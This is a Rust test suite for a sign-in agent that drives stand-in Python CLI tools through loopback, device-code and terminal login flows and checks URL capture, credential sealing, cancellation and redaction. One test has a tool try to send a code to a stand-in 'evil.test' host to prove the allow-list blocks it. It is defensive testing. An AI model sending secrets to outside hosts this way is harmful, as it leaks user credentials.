//! Sign-ins of small real tools: real processes on real terminals, real files, a browser that fetches what it is told to.
use super::*;
use crate::{agent::Agent, guest::Guest, shim};
use futures_util::StreamExt as _;
use serde_json::{Value, json};
use std::{
    fs,
    os::unix::fs::PermissionsExt as _,
    time::{Duration, Instant},
};
use vestibule_api::{agent::AgentEvent, cause::Cause, secret::Opener};

/// What every tool here begins with: how it asks for a page, and how it stores a credential.
const PRELUDE: &str = r#"
import http.server,json,os,subprocess,sys,time
def browser(url): return subprocess.run([os.environ["BROWSER"],url]).returncode
def store(path,value):
    path=os.path.join(os.environ["HOME"],path); os.makedirs(os.path.dirname(path),exist_ok=True)
    with open(path+".new","w") as f: f.write(value)
    os.chmod(path+".new",0o600); os.rename(path+".new",path)
"#;

/// A loopback flow as codex has it: a listener, a page, a redirect, a file, an exit.
const LOOPBACK: &str = r#"
got={}
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        got["path"]=self.path; self.send_response(200); self.end_headers(); self.wfile.write(b"ok")
    def log_message(self,*a): pass
s=http.server.HTTPServer(("127.0.0.1",0),H)
url="http://127.0.0.1:%d/callback?state=S1&code=C1"%s.server_port
print("Opening your browser",flush=True)
if browser(url)!=0: sys.exit(9)
s.handle_request()
assert got["path"].endswith("code=C1")
store(".tool/auth.json",json.dumps({"access_token":"FAKE-access","refresh_token":"FAKE-refresh","expires_at":1800000000,"email":"alice@example.test"}))
print("Signed in")
"#;

struct Room {
    dir: camino_tempfile::Utf8TempDir,
    agent: Arc<Agent>,
    session: SessionId,
}

/// A guest in a temporary directory, with a shim and a browser that are scripts.
fn room() -> Room {
    let dir = camino_tempfile::tempdir().unwrap();
    for name in ["home", "run", "bin"] {
        fs::create_dir(dir.path().join(name)).unwrap();
    }
    let script = |name: &str, text: String| {
        let path = dir.path().join("bin").join(name);
        fs::write(&path, text).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    };
    // Speaks the shim's protocol; the real shim is tested with the real binary in tests/shim.rs.
    script(
        "open-url",
        format!(
            "#!/usr/bin/python3\nimport json,socket,sys\ns=socket.socket(socket.AF_UNIX);s.connect('{}/run/{}')\n\
         s.sendall((json.dumps({{'url':sys.argv[1]}})+'\\n').encode())\nsys.exit(0 if json.loads(s.makefile().readline())['ok'] else 3)\n",
            dir.path(),
            shim::SOCKET
        ),
    );
    script(
        "browser",
        format!(
            "#!/bin/sh\necho \"$1\" >> {}/opened\nexec curl --noproxy '*' -sSL -o /dev/null \"$1\"\n",
            dir.path()
        ),
    );
    let guest = Guest::for_tests(dir.path().as_std_path());
    let agent = Agent::new(guest, String::new());
    let listener = shim::listen(&agent.guest.run.join(shim::SOCKET)).unwrap();
    tokio::spawn(shim::serve(Arc::clone(&agent), listener));
    Room {
        dir,
        agent,
        session: SessionId::generate(),
    }
}

fn merge(base: &mut Value, extra: Value) {
    match (base, extra) {
        (Value::Object(base), Value::Object(extra)) => {
            for (key, value) in extra {
                merge(base.entry(key).or_insert(Value::Null), value);
            }
        }
        (base, extra) => *base = extra,
    }
}

impl Room {
    fn begin(&self, tool: &str, flow: Value, deadline_s: u32) -> Result<(), LoginError> {
        let mut whole = json!({
            "id": "main", "title": "Main", "kind": "loopback", "timeout_s": 60,
            "argv": ["/usr/bin/python3", "-c", format!("{PRELUDE}{tool}")],
            "url": {"sources": ["shim"], "hosts": ["127.0.0.1"], "allow_http": true},
            "done": {"exit": 0},
        });
        merge(&mut whole, flow);
        let pack = json!({
            "schema": 1,
            "provider": {"id": "tool", "name": "Tool", "vendor": "Test", "homepage": "https://example.test"},
            "terms": {"url": "https://example.test", "note": "none", "handoff": "organisation"},
            "flow": [whole],
            "credential": [{"id": "auth", "path": ".tool/auth.json", "format": "json", "account": "/email",
                "required": ["/access_token", "/refresh_token"], "expires_at": {"pointer": "/expires_at", "unit": "s"}}],
        });
        let request = LoginRequest {
            session_id: self.session,
            pack: serde_json::from_value(pack).unwrap(),
            flow: "main".into(),
            deadline_s,
        };
        self.agent.login.begin(&self.agent, request)
    }

    /// Every event of the sign-in, to its end.
    async fn events(&self) -> Vec<LoginEvent> {
        let mut all = Vec::new();
        let mut lines = Box::pin(Arc::clone(&self.agent.events).follow(0));
        let follow = async {
            while let Some(batch) = lines.next().await {
                for line in batch {
                    let AgentEvent::Login { event } = line.event else {
                        continue;
                    };
                    let last = matches!(
                        event,
                        LoginEvent::Captured { .. }
                            | LoginEvent::Failed { .. }
                            | LoginEvent::Cancelled
                    );
                    all.push(event);
                    if last {
                        return;
                    }
                }
            }
        };
        let ended = tokio::time::timeout(Duration::from_secs(40), follow).await;
        assert!(
            ended.is_ok(),
            "no end after {all:?}; transcript {:?}",
            self.agent.login.transcript()
        );
        all
    }

    async fn cause(&self) -> (Cause, Finding) {
        let events = self.events().await;
        match events.last() {
            Some(LoginEvent::Failed { finding }) => (finding.cause, finding.clone()),
            other => panic!("it ended with {other:?}"),
        }
    }
}

use vestibule_api::finding::Finding;

#[tokio::test]
async fn from_the_tools_page_to_the_sealed_credential() {
    let room = room();
    room.begin(LOOPBACK, json!({}), 30).unwrap();
    let steps: Vec<_> = room
        .events()
        .await
        .into_iter()
        .map(|event| serde_json::to_value(event).unwrap())
        .collect();
    let names: Vec<_> = steps
        .iter()
        .map(|step| step["step"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        ["started", "url-captured", "browser-opened", "captured"]
    );
    assert_eq!(
        (&steps[1]["host"], &steps[1]["path"]),
        (&json!("127.0.0.1"), &json!("/callback"))
    );
    assert_eq!(
        (&steps[3]["account"], &steps[3]["expiresAt"]),
        (&json!("alice@example.test"), &json!("2027-01-15T08:00:00Z"))
    );
    // No event says more of a URL than scheme, host and path.
    assert!(!serde_json::to_string(&steps).unwrap().contains("C1"));
    let opener = Opener::generate();
    for _ in 0..2 {
        let opened = opener
            .open(&room.agent.login.sealed(&opener.key()).unwrap())
            .unwrap();
        let credential: CapturedCredential = serde_json::from_slice(opened.expose()).unwrap();
        let written = fs::read(room.dir.path().join("home/.tool/auth.json")).unwrap();
        let content = base64::Engine::decode(
            &base64::engine::general_purpose::STANDARD,
            &credential.files[0].content,
        )
        .unwrap();
        assert!(content == written, "the captured bytes are the file's");
        assert_eq!(
            (credential.files[0].path.as_str(), credential.files[0].mode),
            (".tool/auth.json", 0o600)
        );
    }
    assert!(room.agent.login.transcript().unwrap().contains("Signed in"));
}

#[tokio::test]
async fn one_sign_in_at_a_time_and_cancel_ends_every_process() {
    let room = room();
    let tool = "\np=subprocess.Popen(['sleep','1000'],start_new_session=False)\nprint('PID',p.pid,flush=True)\ntime.sleep(1000)\n";
    room.begin(tool, json!({}), 60).unwrap();
    assert!(matches!(
        room.begin(tool, json!({}), 60),
        Err(LoginError::UnderWay)
    ));
    let mut terminal = room
        .agent
        .login
        .terminal
        .borrow()
        .clone()
        .unwrap()
        .activity();
    let pid = loop {
        let text = room.agent.login.transcript().unwrap();
        if let Some(pid) = text
            .strip_prefix("PID ")
            .and_then(|rest| rest.split_whitespace().next())
        {
            break pid.to_owned();
        }
        terminal.changed().await.unwrap();
    };
    room.agent.login.cancel().await.unwrap();
    assert_eq!(room.events().await.last(), Some(&LoginEvent::Cancelled));
    // It was killed; on a busy machine it has yet to get a processor to die on.
    let begun = Instant::now();
    loop {
        let state = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        if state.is_empty() || state.contains(") Z ") {
            break;
        }
        assert!(begun.elapsed() < Duration::from_secs(10), "{state}");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    // The same session may try again; another one may not have this VM.
    room.begin(LOOPBACK, json!({}), 60).unwrap();
    let mut other = Room {
        dir: camino_tempfile::tempdir().unwrap(),
        agent: Arc::clone(&room.agent),
        session: SessionId::generate(),
    };
    assert!(matches!(
        other.begin(LOOPBACK, json!({}), 60),
        Err(LoginError::OtherSession(_))
    ));
    other.session = room.session;
    assert!(matches!(
        other.begin(LOOPBACK, json!({}), 60),
        Err(LoginError::UnderWay)
    ));
}

#[tokio::test]
async fn a_page_outside_the_allow_list_is_refused_and_the_tool_hears_it() {
    let room = room();
    let tool = "\nprint('shim said',browser('https://evil.test/?code=SECRET'))\nsys.exit(4)\n";
    room.begin(tool, json!({}), 30).unwrap();
    let events = room.events().await;
    let Some(LoginEvent::UrlRefused {
        source: UrlSource::Shim,
        host,
        why,
    }) = events.get(1)
    else {
        panic!("{events:?}")
    };
    assert_eq!(
        (host.as_str(), why.as_str()),
        (
            "evil.test",
            "its host `evil.test` is not one that the pack names"
        )
    );
    assert!(
        room.agent
            .login
            .transcript()
            .unwrap()
            .contains("shim said 3")
    );
    let Some(LoginEvent::Failed { finding }) = events.last() else {
        panic!("{events:?}")
    };
    assert_eq!(
        (finding.cause, finding.why.as_str()),
        (Cause::ToolFailed, "the tool ended with status 4")
    );
    assert!(!room.dir.path().join("opened").exists());
}

use vestibule_api::agent::UrlSource;

/// The page is opened by a browser that signs nobody in; what becomes of the port that its `redirect_uri` names is the test's.
const NOBODY_SIGNS_IN: &str = r#"
import socket,threading
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self): self.send_response(200); self.end_headers(); self.wfile.write(b"sign in here")
    def log_message(self,*a): pass
page=http.server.HTTPServer(("127.0.0.1",0),H)
threading.Thread(target=page.serve_forever,daemon=True).start()
back=http.server.HTTPServer(("127.0.0.1",0),H)
port=back.server_port
def open_page(): return browser("http://127.0.0.1:%d/authorize?redirect_uri=http%%3A%%2F%%2Flocalhost%%3A%d%%2Fcb"%(page.server_port,port))
"#;

#[tokio::test]
async fn a_redirect_that_nobody_waits_for_is_named_and_one_that_is_waited_for_is_not() {
    let tools = [
        (
            "open_page(); back.server_close(); print('Waiting',flush=True); time.sleep(60)",
            Cause::CallbackNotReached,
        ),
        (
            "open_page(); print('Waiting',flush=True); time.sleep(60)",
            Cause::Deadline,
        ),
        (
            "open_page(); threading.Thread(target=lambda: subprocess.run(['curl','--noproxy','*','-s','http://127.0.0.1:%d/cb'%port])).start(); back.handle_request(); back.server_close(); print('Exchanging',flush=True); time.sleep(60)",
            Cause::Deadline,
        ),
    ];
    for (tool, expected) in tools {
        let room = room();
        room.begin(&format!("{NOBODY_SIGNS_IN}{tool}\n"), json!({}), 5)
            .unwrap();
        let (cause, finding) = room.cause().await;
        assert_eq!(cause, expected, "{tool}: {finding:?}");
        if cause == Cause::CallbackNotReached {
            assert_eq!(finding.evidence[0].source, "sockets");
            assert!(
                finding.evidence[0]
                    .text
                    .starts_with("nothing listens on port ")
            );
            assert!(finding.evidence[1].text.ends_with("Waiting"));
        }
    }
}

/// A pack that puts something between the tool and the terminal; what is quoted is the C library's own word for it.
#[tokio::test]
async fn a_tool_without_its_terminal_is_named() {
    let room = room();
    let tool = "\nsys.exit(subprocess.run(['stty','size'],stdin=subprocess.DEVNULL).returncode)\n";
    room.begin(tool, json!({}), 30).unwrap();
    let (cause, finding) = room.cause().await;
    assert_eq!(cause, Cause::ToolNeedsTerminal, "{finding:?}");
    assert!(
        finding.evidence[0]
            .text
            .contains("Inappropriate ioctl for device")
    );
}

#[tokio::test]
async fn prompts_are_answered_and_codes_shown() {
    let room = room();
    let tool = r#"
print("! First copy your one-time code: ABCD-1234")
input("Press Enter to open 127.0.0.1 in your browser... ")
store(".tool/auth.json",'{"access_token":"a","refresh_token":"r"}')
"#;
    let flow = json!({"kind": "device", "prompt": [{"when": "Press Enter to open", "send": "\r"}], "code": {"cli_regex": "code: ([A-Z0-9-]+)"}});
    room.begin(tool, flow, 30).unwrap();
    let events = room.events().await;
    assert!(events.contains(&LoginEvent::UserCode {
        code: "ABCD-1234".into()
    }));
    assert!(events.contains(&LoginEvent::Prompted { prompt: 0 }));
    assert!(
        matches!(
            events.last(),
            Some(LoginEvent::Captured { account: None, .. })
        ),
        "{events:?}"
    );
}

#[tokio::test]
async fn a_long_url_on_the_screen_is_taken_whole_when_nothing_better_comes() {
    let room = room();
    // A full-screen program's way of writing: wrapped by itself at the terminal's width.
    let tool = LOOPBACK.replace(
        "if browser(url)!=0: sys.exit(9)",
        "url+='&long='+'x'*300\ncols=os.get_terminal_size().columns\nprint('If your browser does not open:\\n')\n\
         for i in range(0,len(url),cols): sys.stdout.write(url[i:i+cols]+('\\n' if len(url[i:i+cols])<cols else '\\r\\n'))\nsys.stdout.flush()",
    ).replace("endswith(\"code=C1\")", "endswith('x'*300)");
    let flow = json!({"url": {"sources": ["shim", "screen"], "must_have": ["code"], "fallback_after_s": 1}});
    room.begin(&tool, flow, 30).unwrap();
    let events = room.events().await;
    assert!(
        events.iter().any(|event| matches!(
            event,
            LoginEvent::UrlCaptured {
                source: UrlSource::Screen,
                ..
            }
        )),
        "{events:?}"
    );
    assert!(
        matches!(events.last(), Some(LoginEvent::Captured { .. })),
        "{events:?}"
    );
}

#[tokio::test]
async fn a_hyperlink_is_preferred_to_the_text_that_it_stands_on() {
    let room = room();
    let tool = LOOPBACK.replace(
        "if browser(url)!=0: sys.exit(9)",
        "print('\\x1b]8;;'+url+'\\x1b\\\\http://127.0.0.1:1/callback?code=short\\x1b]8;;\\x1b\\\\',flush=True)",
    );
    room.begin(
        &tool,
        json!({"url": {"sources": ["osc8", "screen"], "must_have": ["code"]}}),
        30,
    )
    .unwrap();
    let events = room.events().await;
    assert!(
        events.iter().any(|event| matches!(
            event,
            LoginEvent::UrlCaptured {
                source: UrlSource::Osc8,
                ..
            }
        )),
        "{events:?}"
    );
    assert!(
        matches!(events.last(), Some(LoginEvent::Captured { .. })),
        "{events:?}"
    );
}

#[tokio::test]
async fn a_tool_that_never_ends_is_ended_when_its_files_are_complete() {
    let room = room();
    let tool = "\nstore('.tool/auth.json','{\"access_token\":\"a\"')\ntime.sleep(1)\n\
                store('.tool/auth.json','{\"access_token\":\"a\",\"refresh_token\":\"r\"}')\ntime.sleep(1000)\n";
    room.begin(
        tool,
        json!({"kind": "tui", "exits": false, "done": {"exit": null}}),
        30,
    )
    .unwrap();
    let events = room.events().await;
    assert!(
        events
            .iter()
            .any(|event| matches!(event, LoginEvent::CredentialPartial { .. })),
        "{events:?}"
    );
    assert!(
        matches!(events.last(), Some(LoginEvent::Captured { .. })),
        "{events:?}"
    );
}

#[tokio::test]
async fn each_bad_end_has_its_own_cause() {
    let exits = json!({});
    let says = json!({"fail": [{"when": "State mismatch", "cause": "state-mismatch"}]});
    let logs = json!({"fail": [{"when": "callback state mismatch", "cause": "state-mismatch", "file": ".tool/log/login.log"}]});
    let cases = [
        (
            "\nprint('boom token: gho_SECRETSECRET1');sys.exit(2)",
            exits.clone(),
            Cause::ToolFailed,
        ),
        ("\nprint('all fine')", exits.clone(), Cause::CredentialMoved),
        (
            "\nstore('.tool/auth.json','{\"access_token\":')",
            exits.clone(),
            Cause::CredentialInvalid,
        ),
        (
            "\nprint('error: State mismatch');time.sleep(1000)",
            says.clone(),
            Cause::StateMismatch,
        ),
        (
            "\nprint('error: State mismatch');sys.exit(1)",
            says,
            Cause::StateMismatch,
        ),
        (
            "\nstore('.tool/log/login.log','x\\nlogin callback state mismatch\\n');time.sleep(1000)",
            logs,
            Cause::StateMismatch,
        ),
        ("\ntime.sleep(1000)", exits.clone(), Cause::UrlNotCaptured),
        (
            "\nbrowser('http://127.0.0.1:1/x')\ntime.sleep(1000)",
            exits,
            Cause::Deadline,
        ),
    ];
    for (tool, flow, expected) in cases {
        let room = room();
        room.begin(tool, flow, 4).unwrap();
        let (cause, finding) = room.cause().await;
        assert_eq!(cause, expected, "{tool}: {finding:?}");
        assert!(
            !serde_json::to_string(&finding).unwrap().contains("SECRET"),
            "{finding:?}"
        );
    }
}

#[tokio::test]
async fn a_program_that_is_not_there_is_said_at_once() {
    let room = room();
    let refused = room.begin("", json!({"argv": ["/nonexistent/tool"]}), 4);
    assert!(matches!(refused, Err(LoginError::Start(_))), "{refused:?}");
    assert!(matches!(
        room.begin("", json!({"id": "other"}), 4),
        Err(LoginError::NoFlow(_))
    ));
    assert!(matches!(
        room.agent.login.cancel().await,
        Err(LoginError::None)
    ));
    assert!(matches!(
        room.agent.login.sealed(&Opener::generate().key()),
        Err(LoginError::NoCredential)
    ));
}
